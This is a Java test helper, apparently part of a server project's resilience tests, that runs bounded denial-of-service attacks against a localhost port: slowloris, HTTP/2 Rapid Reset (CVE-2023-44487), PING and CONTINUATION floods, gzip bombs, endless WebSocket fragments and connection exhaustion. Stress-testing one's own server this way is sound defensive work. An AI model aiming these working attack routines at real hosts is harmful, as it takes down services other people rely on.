@@ -1,0 +1,320 @@
+package dev.oneport.testing;
+
+import java.io.ByteArrayOutputStream;
+import java.io.IOException;
+import java.net.InetAddress;
+import java.net.InetSocketAddress;
+import java.net.Socket;
+import java.nio.ByteBuffer;
+import java.nio.channels.SocketChannel;
+import java.nio.charset.StandardCharsets;
+import java.time.Duration;
+import java.util.ArrayList;
+import java.util.List;
+import java.util.zip.GZIPOutputStream;
+
+/**
+ * What hostile clients do, each for a short time and with a bound, against one port of this
+ * machine.
+ */
+public final class Attacks {
+  private static final byte[] BEGIN =
+      join(
+          "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII),
+          frame(4, 0, 0, new byte[0]));
+  private static final int DATA = 0;
+  private static final int HEADERS = 1;
+  private static final int RST_STREAM = 3;
+  private static final int SETTINGS = 4;
+  private static final int PING = 6;
+  private static final int CONTINUATION = 9;
+  private static final int END_STREAM = 1;
+  private static final int END_HEADERS = 4;
+
+  private final int port;
+
+  public Attacks(int port) {
+    this.port = port;
+  }
+
+  /** Heads that come by drips, on many connections. */
+  public void slowloris() throws Exception {
+    var sockets = connect(500);
+    try {
+      for (int i = 0; i < 20; i++) {
+        for (var socket : sockets) {
+          quietly(() -> socket.getOutputStream().write('X'));
+        }
+        Thread.sleep(Duration.ofMillis(150));
+      }
+    } finally {
+      close(sockets);
+    }
+  }
+
+  /** Streams that are reset as soon as they are opened (CVE-2023-44487). */
+  public void rapidReset() {
+    flood(
+        4,
+        30_000,
+        n ->
+            join(
+                frame(HEADERS, END_HEADERS, 2 * n + 1, get()),
+                frame(RST_STREAM, 0, 2 * n + 1, new byte[] {0, 0, 0, 8})));
+  }
+
+  public void pings() {
+    flood(4, 100_000, _ -> frame(PING, 0, 0, new byte[8]));
+  }
+
+  public void settings() {
+    flood(4, 100_000, _ -> frame(SETTINGS, 0, 0, new byte[] {0, 4, 0, 1, 0, 0}));
+  }
+
+  /** A header block that never ends. */
+  public void continuations() {
+    var piece = new byte[16 << 10];
+    flood(4, 20_000, n -> n == 0 ? frame(HEADERS, 0, 1, get()) : frame(CONTINUATION, 0, 1, piece));
+  }
+
+  /** Messages that say they have two gigabytes. */
+  public void hugeLengths() {
+    flood(
+        4,
+        900,
+        n ->
+            join(
+                call(2 * n + 1, "/Echo/Collect", false),
+                frame(
+                    DATA,
+                    0,
+                    2 * n + 1,
+                    new byte[] {0, 0x7f, (byte) 0xff, (byte) 0xff, (byte) 0xff})));
+  }
+
+  /** Messages of a few kilobytes that unpack to a hundred megabytes. */
+  public void bombs() throws IOException {
+    var packed = new ByteArrayOutputStream();
+    try (var gzip = new GZIPOutputStream(packed)) {
+      var zeros = new byte[1 << 20];
+      for (int i = 0; i < 12; i++) {
+        gzip.write(zeros);
+      }
+    }
+    var message =
+        join(
+            new byte[] {1},
+            ByteBuffer.allocate(4).putInt(packed.size()).array(),
+            packed.toByteArray());
+    flood(
+        4,
+        300,
+        n ->
+            join(call(2 * n + 1, "/Echo/Ping", true), frame(DATA, END_STREAM, 2 * n + 1, message)));
+  }
+
+  /** Answers that nobody reads: pipelined on HTTP/1.1, a fast stream on gRPC. */
+  public void neverReads() throws Exception {
+    var sockets = connect(20);
+    var request =
+        "GET /ping HTTP/1.1\r\nHost: x\r\n\r\n".repeat(500).getBytes(StandardCharsets.US_ASCII);
+    var watch =
+        new byte[] {
+          0, 0, 0, 0, 8, 0x10, (byte) 0x80, (byte) 0x94, (byte) 0xeb, (byte) 0xdc, 3, 0x18, 0
+        };
+    try {
+      for (int i = 0; i < sockets.size(); i++) {
+        var socket = sockets.get(i);
+        boolean grpc = i % 2 == 0;
+        Thread.ofVirtual()
+            .start(
+                () ->
+                    quietly(
+                        () -> {
+                          var out = socket.getOutputStream();
+                          if (grpc) {
+                            out.write(
+                                join(
+                                    BEGIN,
+                                    frame(8, 0, 0, new byte[] {0x3f, 0, 0, 0}),
+                                    call(1, "/Echo/Watch", false),
+                                    frame(DATA, END_STREAM, 1, watch)));
+                          } else {
+                            for (int n = 0; n < 2_000; n++) {
+                              out.write(request);
+                            }
+                          }
+                        }));
+      }
+      Thread.sleep(Duration.ofSeconds(4));
+    } finally {
+      close(sockets);
+    }
+  }
+
+  /** A message in fragments that never ends, on many sockets. */
+  public void endlessFragments() throws Exception {
+    var handshake =
+        "GET /ws HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"
+            .getBytes(StandardCharsets.US_ASCII);
+    var fragment =
+        join(new byte[] {0, (byte) 0xfe, (byte) 0xff, (byte) 0xff, 0, 0, 0, 0}, new byte[0xffff]);
+    var sockets = connect(50);
+    try {
+      for (var socket : sockets) {
+        quietly(
+            () -> {
+              var out = socket.getOutputStream();
+              out.write(handshake);
+              out.write(new byte[] {1, (byte) 0x80, 0, 0, 0, 0});
+              for (int n = 0; n < 40; n++) {
+                out.write(fragment);
+              }
+            });
+      }
+    } finally {
+      close(sockets);
+    }
+  }
+
+  /** A body beyond the limit, with and without saying so. */
+  public void hugeBodies() throws Exception {
+    var sockets = connect(20);
+    var piece =
+        join(
+            "10000\r\n".getBytes(StandardCharsets.US_ASCII),
+            new byte[1 << 16],
+            "\r\n".getBytes(StandardCharsets.US_ASCII));
+    try {
+      for (var socket : sockets) {
+        quietly(
+            () -> {
+              var out = socket.getOutputStream();
+              out.write(
+                  "POST /ping HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n"
+                      .getBytes(StandardCharsets.US_ASCII));
+              for (int n = 0; n < 1_000; n++) {
+                out.write(piece);
+              }
+            });
+      }
+    } finally {
+      close(sockets);
+    }
+  }
+
+  /** Connections that say nothing, ten thousand of them. */
+  public void connections() throws Exception {
+    var open = new ArrayList<SocketChannel>();
+    try {
+      for (int i = 0; i < 10_000; i++) {
+        open.add(SocketChannel.open(new InetSocketAddress(InetAddress.getLoopbackAddress(), port)));
+      }
+      Thread.sleep(Duration.ofSeconds(1));
+    } finally {
+      for (var channel : open) {
+        channel.close();
+      }
+    }
+  }
+
+  private interface Step {
+    byte[] frame(int n);
+  }
+
+  private interface Io {
+    void run() throws IOException;
+  }
+
+  /** Sends frames as fast as they go, until there were that many or the server has had enough. */
+  private void flood(int connections, int count, Step step) {
+    for (int c = 0; c < connections; c++) {
+      quietly(
+          () -> {
+            try (var socket = new Socket(InetAddress.getLoopbackAddress(), port)) {
+              var out = socket.getOutputStream();
+              out.write(BEGIN);
+              Thread.ofVirtual()
+                  .start(
+                      () ->
+                          quietly(
+                              () ->
+                                  socket
+                                      .getInputStream()
+                                      .transferTo(ByteArrayOutputStream.nullOutputStream())));
+              for (int n = 0; n < count; n++) {
+                out.write(step.frame(n));
+              }
+            }
+          });
+    }
+  }
+
+  private static byte[] get() {
+    return new byte[] {(byte) 0x82, (byte) 0x86, (byte) 0x84, 0x01, 1, 'x'};
+  }
+
+  /** The head of a gRPC call, in literals only. */
+  private static byte[] call(int stream, String path, boolean gzip) {
+    var block = new ByteArrayOutputStream();
+    block.writeBytes(new byte[] {(byte) 0x83, (byte) 0x86, 0x04});
+    text(block, path);
+    block.write(0x01);
+    text(block, "x");
+    field(block, "content-type", "application/grpc");
+    field(block, "te", "trailers");
+    if (gzip) {
+      field(block, "grpc-encoding", "gzip");
+    }
+    return frame(HEADERS, END_HEADERS, stream, block.toByteArray());
+  }
+
+  private static void field(ByteArrayOutputStream block, String name, String value) {
+    block.write(0);
+    text(block, name);
+    text(block, value);
+  }
+
+  private static void text(ByteArrayOutputStream block, String text) {
+    block.write(text.length());
+    block.writeBytes(text.getBytes(StandardCharsets.US_ASCII));
+  }
+
+  private static byte[] frame(int type, int flags, int stream, byte[] payload) {
+    return ByteBuffer.allocate(9 + payload.length)
+        .put((byte) (payload.length >>> 16))
+        .putShort((short) payload.length)
+        .put((byte) type)
+        .put((byte) flags)
+        .putInt(stream)
+        .put(payload)
+        .array();
+  }
+
+  private static byte[] join(byte[]... parts) {
+    var all = new ByteArrayOutputStream();
+    List.of(parts).forEach(all::writeBytes);
+    return all.toByteArray();
+  }
+
+  private List<Socket> connect(int count) throws IOException {
+    var sockets = new ArrayList<Socket>();
+    for (int i = 0; i < count; i++) {
+      sockets.add(new Socket(InetAddress.getLoopbackAddress(), port));
+    }
+    return sockets;
+  }
+
+  private static void close(List<Socket> sockets) {
+    sockets.forEach(socket -> quietly(socket::close));
+  }
+
+  /** An attacker does not mind being thrown out. */
+  private static void quietly(Io io) {
+    try {
+      io.run();
+    } catch (IOException e) {
+      // That was the point.
+    }
+  }
+}
